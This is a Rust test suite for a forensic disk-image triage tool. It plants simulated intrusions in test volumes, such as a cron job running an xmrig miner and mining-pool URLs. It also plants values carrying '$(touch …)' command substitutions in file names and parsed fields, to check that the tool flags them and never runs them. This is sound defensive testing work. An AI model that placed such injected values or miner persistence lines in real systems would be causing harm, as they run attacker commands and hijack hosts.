        raw.iter()
            .all(|b| b.is_ascii() && (*b >= 0x20 || *b == b'\n')),
        "findings.json holds raw non-ASCII or control bytes"
    );
    let timeline = std::fs::read_to_string(out.join("timeline.csv")).expect("timeline.csv");
    for shown in ["\"/tmp/pi|pe\"", "\"/tmp/%41%7C\"", "/tmp/loop1 -> loop2"] {
        assert!(timeline.contains(shown), "{shown} in the timeline");
    }
    std::fs::remove_dir_all(&work).expect("cleaned up");
}

#[test]
fn a_deleted_file_is_flagged_deleted_and_a_name_ending_in_deleted_is_not() {
    let work = work_dir("deleted");
    let tree = work.join("tree");
    let canary = canary("deleted");
    plant_compromise(&tree, &canary);
    plant(
        &tree,
        "etc/cron.d/gone",
        "* * * * * root /tmp/.x/xmrig --gone\n",
        0o644,
    );
    plant(&tree, "tmp/live (deleted)", "still here\n", 0o644);
    let image = work.join("volume.img");
    mkfs_ext4(&tree, &image, "16M", &[]);
    // The intruder removed their cron file: its inode and blocks remain.
    run(
        "debugfs",
        &[
            "-w".as_ref(),
            "-R".as_ref(),
            "rm /etc/cron.d/gone".as_ref(),
            image.as_os_str(),
        ],
    );

    let findings = analyse_unchanged(&image, &work.join("out"), &[], None);
    assert_compromise_found(&findings, &canary);
    let cron = indicators(&findings, "cron");
    assert!(
        cron.iter().any(|i| i["path"] == "/etc/cron.d/gone"
            && i["detail"] == "* * * * * root /tmp/.x/xmrig --gone"
            && i["deleted"] == true),
        "{cron:#?}"
    );
    assert!(
        cron.iter()
            .any(|i| i["path"] == "/etc/cron.d/update" && i["deleted"] == false),
        "{cron:#?}"
    );
    assert_eq!(file_entry(&findings, "/etc/cron.d/gone")["deleted"], true);
    // A live file whose name merely ends in " (deleted)" stays live, name and all.
    assert_eq!(
        file_entry(&findings, "/tmp/live (deleted)")["deleted"],
        false
    );
    std::fs::remove_dir_all(&work).expect("cleaned up");
}

#[test]
fn a_path_deeper_than_the_sleuth_kit_walks_is_still_triaged() {
    let work = work_dir("deep");
    let tree = work.join("tree");
    let canary = canary("deep");
    plant_compromise(&tree, &canary);
    // 60 levels of 80-byte names (a path of 4,800 bytes, past fls's 4,096),
    // and 130 levels of one-byte names (past its 128): built level by level,
    // as no single path may be that long.
    let long_config = "{\"url\":\"stratum+tcp://long.supportxmr.com:3333\"}";
    let deep_config = "{\"url\":\"stratum+tcp://levels.supportxmr.com:3333\"}";
    let built = Command::new("sh")
        .arg("-c")
        .arg(
            r#"set -e
cd "$1"
for i in $(seq 1 60); do d=$(printf 'd%02d%077d' "$i" 0); mkdir "$d"; cd -P "$d"; done
printf '%s\n' "$2" >config.json
cd "$1"
for i in $(seq 1 130); do mkdir a; cd -P a; done
printf '%s\n' "$3" >pool.json"#,
        )
        .arg("sh")
        .arg(tree.join("tmp"))
        .arg(long_config)
        .arg(deep_config)
        .output()
        .expect("sh runs");
    assert!(
        built.status.success(),
        "{}",
        String::from_utf8_lossy(&built.stderr)
    );
    let image = work.join("volume.img");
    mkfs_ext4(&tree, &image, "16M", &[]);

    let findings = analyse_unchanged(&image, &work.join("out"), &[], None);
    assert_compromise_found(&findings, &canary);
    let long_path = format!(
        "/tmp/{}/config.json",
        (1..=60)
            .map(|i| format!("d{i:02}{}", "0".repeat(77)))
            .collect::<Vec<_>>()
            .join("/")
    );
    assert!(long_path.len() > 4096);
    let deep_path = format!("/tmp/{}/pool.json", vec!["a"; 130].join("/"));
    assert_indicators(
        &findings,
        &[
            ("crypto-mining", long_path.as_str()),
            ("crypto-mining", deep_path.as_str()),
        ],
    );
    std::fs::remove_dir_all(&work).expect("cleaned up");
}

#[test]
fn a_huge_sparse_file_and_two_hundred_thousand_files_are_capped_not_fatal() {
    // 200,000 empty files keep the build and the analysis well under a minute
    // (about 10 s and 5 s on two cores); the triage set is capped at 10 here so
    // that the cap is reached and the order of the set shows.
    let started = Instant::now();
    let work = work_dir("many");
    let tree = work.join("tree");
    let canary = canary("many");
    plant_compromise(&tree, &canary);
    for d in 0..2000 {
        let dir = tree.join(format!("tmp/many/d{d}"));
        std::fs::create_dir_all(&dir).expect("dirs");
        for f in 0..100 {
            std::fs::File::create(dir.join(format!("f{}", d * 100 + f))).expect("empty file");
        }
    }
    std::fs::File::create(tree.join("tmp/.x/huge.bin"))
        .expect("file")
        .set_len(50 << 30)
        .expect("a 50 GiB sparse file");
    for i in 0..30 {
        plant(
            &tree,
            &format!("tmp/.x/spray/{i:02}.txt"),
            &format!("{}\nstratum+tcp://spray{i}.example:1\n", "#".repeat(2048)),
            0o644,
        );
    }
    let image = work.join("volume.img");
    mkfs_ext4(&tree, &image, "160M", &["-N", "210000"]);
    {
        use std::os::unix::fs::MetadataExt;
        let meta = image.metadata().expect("image");
        assert_eq!(
            meta.len(),
            160 << 20,
            "the 50 GiB file fits: it stayed sparse"
        );
        assert!(
            meta.blocks() * 512 < 120 << 20,
            "{} bytes on disk",
            meta.blocks() * 512
        );
    }
    eprintln!("fixture built in {:?}", started.elapsed());

    let started = Instant::now();
    let findings = analyse_unchanged(&image, &work.join("out"), &["--max-files", "10"], None);
    eprintln!("analysed in {:?}", started.elapsed());
    // Persistence first, then the recent miner, then the smallest scanned
    // files: the pool configuration and three of the thirty sprayed ones.
    assert_compromise_found(&findings, &canary);
    assert_eq!(findings["files"].as_array().expect("files").len(), 10);
    let cap = &findings["triageCap"];
    assert_eq!(cap["maxFiles"], 10);
    assert_eq!(cap["maxBytes"], 2_147_483_648u64);
    assert_eq!(cap["skipped"], 28, "{cap}");
    assert_eq!(
        cap["reason"], "1 file(s) over 64 MiB; 27 past --max-files 10",
        "{cap}"
    );

    let findings = analyse_unchanged(
        &image,
        &work.join("out-bytes"),
        &["--max-bytes", "1500"],
        None,
    );
    assert_compromise_found(&findings, &canary);
    assert_eq!(findings["files"].as_array().expect("files").len(), 7);
    assert_eq!(
        findings["triageCap"]["skipped"], 31,
        "{}",
        findings["triageCap"]
    );
    assert_eq!(
        findings["triageCap"]["reason"],
        "1 file(s) over 64 MiB; 30 past --max-bytes 1500"
    );
    std::fs::remove_dir_all(&work).expect("cleaned up");
}

/// Where debugfs says an inode lies: (block, byte offset in that block).
fn inode_location(image: &Path, path: &str) -> (u64, u64) {
    let out = Command::new("debugfs")
        .arg("-R")
        .arg(format!("imap {path}"))
        .arg(image)
        .output()
        .expect("debugfs runs");
    let text = String::from_utf8_lossy(&out.stdout);
    let rest = text
        .split("located at block ")
        .nth(1)
        .unwrap_or_else(|| panic!("debugfs imap {path}: {text}"));
    let (block, offset) = rest.split_once(", offset 0x").expect("an offset");
    (
        block.trim().parse().expect("a block"),
        u64::from_str_radix(offset.trim(), 16).expect("a hex offset"),
    )
}

#[test]
fn a_directory_the_sleuth_kit_cannot_read_is_recorded_and_the_rest_is_analysed() {
    use std::io::{Seek, SeekFrom, Write};
    let work = work_dir("unreadable-dir");
    let tree = work.join("tree");
    let canary = canary("unreadable-dir");
    plant_compromise(&tree, &canary);
    plant(&tree, "var/hidden/a", "a\n", 0o644);
    plant(
        &tree,
        "tmp/.x/broken.json",
        "{\"url\":\"stratum+tcp://b.example:1\"}\n",
        0o644,
    );
    let image = work.join("volume.img");
    mkfs_ext4(&tree, &image, "16M", &["-b", "4096"]);
    // Garbage over the extent header (i_block, 40 bytes into the inode) of a
    // directory and of a file.
    for path in ["/var/hidden", "/tmp/.x/broken.json"] {
        let (block, offset) = inode_location(&image, path);
        let mut file = std::fs::OpenOptions::new()
            .write(true)
            .open(&image)
            .expect("image");
        file.seek(SeekFrom::Start(block * 4096 + offset + 40))
            .expect("seek");
        file.write_all(&[0xde_u8, 0xad, 0xbe, 0xef].repeat(3))
            .expect("corrupted");
    }

    let findings = analyse_unchanged(&image, &work.join("out"), &[], None);
    assert_compromise_found(&findings, &canary);
    let errors = findings["toolErrors"].as_array().expect("toolErrors");
    for (tool, path) in [("fls", "/var/hidden"), ("icat", "/tmp/.x/broken.json")] {
        assert!(
            errors.iter().any(|e| e["tool"] == tool
                && e["path"] == path
                && e["offset"] == 0
                && !e["stderr"].as_str().unwrap_or_default().is_empty()),
            "{tool} {path}: {errors:#?}"
        );
    }
    assert!(findings["toolErrorsTotal"].as_u64().unwrap_or_default() >= 2);
    std::fs::remove_dir_all(&work).expect("cleaned up");
}

#[test]
fn a_body_line_that_does_not_parse_is_recorded_and_never_evaluated() {
    // The Sleuth Kit 4.11 writes control characters in names as "^", so its
    // lines always parse; a lister that does not (another version, another
    // file system) is stood in for by a wrapper that adds five bad lines, with
    // commands where numbers belong.
    let work = work_dir("unparsed");
    let tree = work.join("tree");
    let injected = canary("unparsed-field");
    let passwd_canary = canary("unparsed");
    plant_compromise(&tree, &passwd_canary);
    let image = work.join("volume.img");
    mkfs_ext4(&tree, &image, "16M", &[]);
    let fls = installed_fls();
    let c = injected.display();
    let lines = [
        format!("0|/tmp/x|a[$(touch {c})]|r/rrwxrwxrwx|0|0|10|1|1|1|1"),
        format!("0|/tmp/y|12|r/rrwxrwxrwx|0|0|$(touch {c})|1|1|1|1"),
        "0|/tmp/z|13|r/rrwxrwxrwx|0|0|10|1|4.10244e+09|1|1".to_owned(),
        format!("not a body line `touch {c}`"),
    ];
    let tools = fls_stand_in(
        &work,
        format!(
            "#!/bin/sh\n'{}' \"$@\" || exit $?\nif [ \"$1\" = -u ]; then\n  printf '%s\\n' {}\n  printf '0|/tmp/ctl\\033[31m|14|r/rrwxrwxrwx|0|0|10|1|1|1|\\377\\n'\nfi\n",
            fls.display(),
            lines.iter().map(|l| format!("'{l}'")).collect::<Vec<_>>().join(" ")
        ),
    );

    let findings = analyse_unchanged(&image, &work.join("out"), &[], Some(tools.as_path()));
    assert_compromise_found(&findings, &passwd_canary);
    assert!(!injected.exists(), "a command in a numeric field ran");
    assert_eq!(findings["unparsedTotal"], 5, "{}", findings["unparsed"]);
    let recorded: Vec<&str> = findings["unparsed"]
        .as_array()
        .expect("unparsed")
        .iter()
        .inspect(|u| {
            assert_eq!(u["source"], "fls");
            assert_eq!(u["offset"], 0);
        })
        .filter_map(|u| u["line"].as_str())
        .collect();
    for line in &lines {
        assert!(recorded.contains(&line.as_str()), "{line}: {recorded:#?}");
    }
    // Raw bytes are kept, escaped: nothing in the record can drive a terminal.
    assert!(
        recorded.contains(&"0|/tmp/ctl\\x1b[31m|14|r/rrwxrwxrwx|0|0|10|1|1|1|\\xff"),
        "{recorded:#?}"
    );
    std::fs::remove_dir_all(&work).expect("cleaned up");
}

#[test]
fn an_encrypted_volume_yields_findings_that_say_why_it_was_not_read() {
    let work = work_dir("luks");
    let image = work.join("luks.img");
    std::fs::File::create(&image)
        .expect("image")
        .set_len(20 << 20)
        .expect("20 MiB");
    let formatted = Command::new("cryptsetup")
        .arg("--version")
        .output()
        .is_ok_and(|o| o.status.success());
    if formatted {
        let key = work.join("key");
        std::fs::write(&key, "not the real key").expect("key");
        run(
            "cryptsetup",
            &[
                "luksFormat".as_ref(),
                "--batch-mode".as_ref(),
                "--type".as_ref(),
                "luks2".as_ref(),
                "--pbkdf".as_ref(),
                "pbkdf2".as_ref(),
                "--pbkdf-force-iterations".as_ref(),
                "1000".as_ref(),
                "--key-file".as_ref(),
                key.as_os_str(),
                image.as_os_str(),
            ],
        );
    } else {
        // Without cryptsetup, the LUKS header's magic and version alone,
        // which blkid names just the same.
        use std::io::Write;
        std::fs::OpenOptions::new()
            .write(true)
            .open(&image)
            .expect("image")
            .write_all(b"LUKS\xba\xbe\x00\x02")
            .expect("magic");
    }

    let findings = analyse_unchanged(&image, &work.join("out"), &[], None);
    assert_eq!(findings["fileSystems"][0]["type"], "crypto_LUKS");
    assert_eq!(findings["fileSystems"][0]["readBy"], Value::Null);
    let unreadable = findings["unreadable"]
        .as_str()
        .expect("unreadable says why");
    assert!(unreadable.contains("LUKS"), "{unreadable}");
    assert_eq!(findings["partitions"], serde_json::json!([]));
    assert_eq!(findings["indicators"], serde_json::json!([]));
    assert_eq!(findings["files"], serde_json::json!([]));
    std::fs::remove_dir_all(&work).expect("cleaned up");
}

#[test]
fn a_volume_without_a_file_system_yields_findings_that_say_so() {
    let work = work_dir("no-file-system");
    let image = work.join("noise.img");
    let mut state: u64 = 0x9e37_79b9_7f4a_7c15;
    let noise: Vec<u8> = (0..4 << 20)
        .map(|_| {
            state = state
                .wrapping_mul(6_364_136_223_846_793_005)
                .wrapping_add(1_442_695_040_888_963_407);
            (state >> 33) as u8
        })
        .collect();
    std::fs::write(&image, &noise).expect("image");

    let findings = analyse_unchanged(&image, &work.join("out"), &[], None);
    assert_eq!(findings["fileSystems"][0]["type"], Value::Null);
    let unreadable = findings["unreadable"]
        .as_str()
        .expect("unreadable says why");
    assert!(
        unreadable.contains("no file system signature"),
        "{unreadable}"
    );
    assert_eq!(findings["indicators"], serde_json::json!([]));
    std::fs::remove_dir_all(&work).expect("cleaned up");
}

#[test]
fn on_ntfs_an_executable_is_known_by_its_extension_not_its_mode() {
    // tests/fixtures/ntfs/README.md: update.exe, run.ps1 and notes.txt, all
    // written at 1796006285 and all r/rrwxrwxrwx to The Sleuth Kit.
    let work = work_dir("ntfs");
    let image = work.join("ntfs.img");
    std::fs::write(
        &image,
        gunzip(&repo_root().join("tests/fixtures/ntfs/evidence.img.gz")),
    )
    .expect("image");

    let findings = analyse_unchanged(
        &image,
        &work.join("out"),
        &["--reference-time", "1796092685"],
        None,
    );
    assert_eq!(findings["fileSystems"][0]["type"], "ntfs");
    assert_eq!(findings["recencyAnchor"]["source"], "snapshot start");
    assert_indicators(
        &findings,
        &[
            ("recent-executable", "/update.exe"),
            ("recent-executable", "/run.ps1"),
            ("crypto-mining", "/update.exe"),
        ],
    );
    let everything: Vec<&Value> = findings["indicators"]
        .as_array()
        .expect("indicators")
        .iter()
        .collect();
    assert!(
        !everything.iter().any(|i| i["path"] == "/notes.txt"),
        "notes.txt is no executable: {everything:#?}"
    );
    assert!(
        !findings["files"]
            .as_array()
            .expect("files")
            .iter()
            .any(|f| f["path"] == "/notes.txt"),
        "notes.txt is not in the triage set"
    );
    assert!(
        details(&findings)
            .contains(&"YARA StratumPoolUrl: stratum+tcp://win.supportxmr.com:3333".to_owned()),
        "{:#?}",
        details(&findings)
    );
    std::fs::remove_dir_all(&work).expect("cleaned up");
}

#[test]
fn lvm_metadata_that_does_not_parse_is_recorded_not_fatal() {
    // The PV's text metadata is the attacker's too: a tab in a logical
    // volume's name and a pe_start of 20 digits.
    let work = work_dir("lvm-hostile");
    let mut pv = lvm_physical_volume(&work);
    let replace = |bytes: &mut Vec<u8>, from: &[u8], to: &[u8]| {
        let mut at = 0;
        let mut found = 0;
        while let Some(i) = bytes[at..1 << 20]
            .windows(from.len())
            .position(|w| w == from)
        {
            bytes.splice(at + i..at + i + from.len(), to.iter().copied());
            at += i + to.len();
            found += 1;
        }
        assert!(
            found > 0,
            "{:?} in the metadata",
            String::from_utf8_lossy(from)
        );
    };
    replace(&mut pv, b"root {", b"r\tot {");
    replace(
        &mut pv,
        b"pe_start = 2048",
        b"pe_start = 99999999999999999999",
    );
    pv.resize(40 * 1024 * 1024, 0);
    let device = work.join("pv.img");
    std::fs::write(&device, &pv).expect("PV image");

    let findings = analyse_unchanged(&device, &work.join("out"), &[], None);
    assert_eq!(
        findings["lvm"],
        serde_json::json!([{
            "volumeGroup": "evidencevg", "logicalVolume": "r^ot",
            "physicalVolumeOffset": 0, "offset": null,
            "status": "not read: its location does not parse"
        }])
    );
    assert_eq!(
        findings["unparsed"],
        serde_json::json!([{"source": "lvm", "offset": 0, "line": "evidencevg/r^ot at 100000000000000000000"}])
    );
    let unreadable = findings["unreadable"]
        .as_str()
        .expect("unreadable says why");
    assert!(unreadable.contains("LVM physical volume"), "{unreadable}");
    std::fs::remove_dir_all(&work).expect("cleaned up");
}

#[test]
fn hostile_names_on_a_mounted_xfs_file_system_are_read_as_data() {
    // The mount fallback lists names with find, NUL-terminated: a newline in
    // a name neither splits a record nor hides a file.
    assert_root("this test mounts an XFS image: it needs root and loop devices");
    let work = work_dir("xfs-hostile");
    let tree = work.join("tree");
    let subst = canary("xfs-subst");
    let passwd_canary = canary("xfs-passwd");
    plant_compromise(&tree, &passwd_canary);
    let subst_dir = tree.join(format!("tmp/$(touch {})", subst.display()));
    plant_bytes(
        &subst_dir,
        b"a\nb|c.json",
        "{\"url\":\"stratum+tcp://newline.supportxmr.com:1\"}\n",
    );
    plant_bytes(&tree.join("tmp"), b"pi|pe\twith\ttabs", "x\n");
    plant(&tree, "tmp/future", "from the future\n", 0o644);
    touch_date(&tree.join("tmp/future"), "2100-01-01T00:00:00Z");
    plant(&tree, "tmp/past", "from the past\n", 0o644);
    touch_date(&tree.join("tmp/past"), "1960-01-01T00:00:00Z");
    let image = work.join("xfs.img");
    mkfs_xfs(&tree, &work, &image);

    let findings = analyse_unchanged(&image, &work.join("out"), &[], None);
    assert_eq!(findings["mounted"][0]["type"], "xfs");
    assert_compromise_found(&findings, &passwd_canary);
    assert!(!subst.exists(), "a command named in the volume ran");
    assert_indicators(
        &findings,
        &[
            (
                "crypto-mining",
                format!("/tmp/$(touch {})/a^b|c.json", subst.display()).as_str(),
            ),
            ("future-timestamp", "/tmp/future"),
        ],
    );
    assert_eq!(findings["unparsedTotal"], 0, "{}", findings["unparsed"]);
    let analysed = findings["analysisTime"].as_u64().expect("analysisTime");
    let anchor = findings["recencyAnchor"]["epoch"].as_u64().expect("epoch");
    assert!(anchor <= analysed, "{}", findings["recencyAnchor"]);
    let loops = Command::new("losetup").arg("-a").output().unwrap();
    assert!(
        !String::from_utf8_lossy(&loops.stdout).contains(image.to_str().unwrap()),
        "the loop device is detached"
    );
    std::fs::remove_dir_all(&work).expect("cleaned up");
}

/// The two file systems the partition tests lay out: the planted compromise
/// in `first`, a cron job of its own in `second`.
fn two_partition_trees(name: &str) -> (PathBuf, PathBuf) {
    let work = work_dir(name);
    let canary = canary(name);
    plant_compromise(&work.join("first"), &canary);
    plant(
        &work.join("second"),
        "etc/cron.d/second",
        "*/2 * * * * root /opt/second\n",
        0o644,
    );
    (work, canary)
}

/// Both partitions at sectors 2048 and 18432 were read, each trace found.
fn assert_both_partitions_analysed(findings: &Value, canary: &Path) {
    assert_eq!(findings["partitions"], serde_json::json!([2048, 18432]));
    assert_compromise_found(findings, canary);
    assert_indicators(findings, &[("cron", "/etc/cron.d/second")]);
}

/// A 40 MiB disk whose partition table `write_table` writes, with an ext4
/// file system of each tree of `work` at its start sector.
fn partitioned_disk(
    work: &Path,
    trees: &[(&str, u64)],
    write_table: impl FnOnce(&Path),
) -> PathBuf {
    use std::io::{Seek, SeekFrom, Write};
    let disk = work.join("disk.img");
    std::fs::File::create(&disk)
        .expect("disk")
        .set_len(40 << 20)
        .expect("40 MiB");
    write_table(&disk);
    let mut file = std::fs::OpenOptions::new()
        .write(true)
        .open(&disk)
        .expect("disk");
    for (tree, start) in trees {
        let image = work.join(format!("{tree}.img"));
        mkfs_ext4(&work.join(tree), &image, "8M", &[]);
        file.seek(SeekFrom::Start(start * 512)).expect("seek");
        file.write_all(&std::fs::read(&image).expect("partition"))
            .expect("written");
    }
    disk
}

#[test]
fn every_file_system_on_a_partitioned_volume_is_analysed() {
    // Two ext4 partitions behind a DOS partition table: the traces of both
    // are kept, each file with the partition it came from.
    let (work, canary) = two_partition_trees("partitions");
    let disk = partitioned_disk(&work, &[("first", 2048), ("second", 18432)], |disk| {
        let mut table = vec![0u8; 512];
        for (slot, start) in [2048u32, 18432].into_iter().enumerate() {
            let entry = &mut table[446 + 16 * slot..446 + 16 * (slot + 1)];
            entry[4] = 0x83;
            entry[8..12].copy_from_slice(&start.to_le_bytes());
            entry[12..16].copy_from_slice(&16384u32.to_le_bytes());
        }
        table[510] = 0x55;
        table[511] = 0xaa;
        let mut file = std::fs::OpenOptions::new()
            .write(true)
            .open(disk)
            .expect("disk");
        std::io::Write::write_all(&mut file, &table).expect("partition table");
    });

    let findings = analyse_unchanged(&disk, &work.join("out"), &[], None);
    assert_both_partitions_analysed(&findings, &canary);
    assert_eq!(
        file_entry(&findings, "/etc/cron.d/second")["partitionOffset"],
        18432
    );
    assert_eq!(
        file_entry(&findings, "/etc/cron.d/update")["partitionOffset"],
        2048
    );
    std::fs::remove_dir_all(&work).expect("cleaned up");
}

/// On GPT a partition's description is its name, which the volume's owner
/// writes: partitions named "Extended" and "Unallocated" are still analysed.
#[test]
fn a_gpt_partition_named_like_a_table_entry_is_still_analysed() {
    use std::io::Write;
    let (work, canary) = two_partition_trees("gpt-names");
    let disk = partitioned_disk(&work, &[("first", 2048), ("second", 18432)], |disk| {
        let mut sfdisk = std::process::Command::new("sfdisk")
            .args(["-q", disk.to_str().expect("path")])
            .stdin(std::process::Stdio::piped())
            .spawn()
            .expect("sfdisk (make setup installs fdisk)");
        sfdisk
            .stdin
            .take()
            .expect("stdin")
            .write_all(
                b"label: gpt\n\
                  start=2048, size=16384, type=0FC63DAF-8483-4772-8E79-3D69D8477DE4, name=\"Extended\"\n\
                  start=18432, size=16384, type=0FC63DAF-8483-4772-8E79-3D69D8477DE4, name=\"Unallocated\"\n",
            )
            .expect("table");
        assert!(sfdisk.wait().expect("sfdisk ran").success());
    });

    let findings = analyse_unchanged(&disk, &work.join("out"), &[], None);
    assert_both_partitions_analysed(&findings, &canary);
    std::fs::remove_dir_all(&work).expect("cleaned up");
}

/// The attack on the read-once design: with no second full pass, a tool
/// that writes to the evidence while the analysis reads it must still be
/// caught. A stand-in `fls` overwrites the device's first bytes (the first
/// block is always in the sample) before doing its job: the analysis fails,
/// and findings.json says the evidence changed.
#[test]
fn a_write_to_the_evidence_during_the_analysis_is_caught_by_the_sampled_after_check() {
    let work = work_dir("written-during-analysis");
    let tree = work.join("tree");
    plant(&tree, "etc/hostname", "suspect\n", 0o644);
    let image = work.join("volume.img");
    mkfs_ext4(&tree, &image, "16M", &[]);
    let fls = installed_fls();
    let tools = fls_stand_in(
        &work,
        format!(
            "#!/bin/sh\nprintf 'X' | dd of='{}' bs=1 seek=0 conv=notrunc status=none\nexec '{}' \"$@\"\n",
            image.display(),
            fls.display()
        ),
    );
    let out = work.join("out");
    let path = std::env::var("PATH").unwrap_or_default();
    let run = Command::new(repo_root().join("infra/host/analyse-volume.sh"))
        .arg("--device")
        .arg(&image)
        .args(["--volume-id", VOLUME, "--out"])
        .arg(&out)
        .env("PATH", format!("{}:{path}", tools.display()))
        .output()
        .expect("analyse-volume.sh runs");
    assert_eq!(
        run.status.code(),
        Some(1),
        "{}",
        String::from_utf8_lossy(&run.stderr)
    );
    assert!(String::from_utf8_lossy(&run.stderr).contains("the device changed during the analysis"));
    let findings: Value =
        serde_json::from_slice(&std::fs::read(out.join("findings.json")).expect("findings.json"))
            .expect("findings.json is JSON");
    assert_eq!(findings["unchanged"], false);
    assert_ne!(
        findings["afterCheck"]["sampleSha256Before"],
        findings["afterCheck"]["sampleSha256After"]
    );
    std::fs::remove_dir_all(&work).unwrap();
}
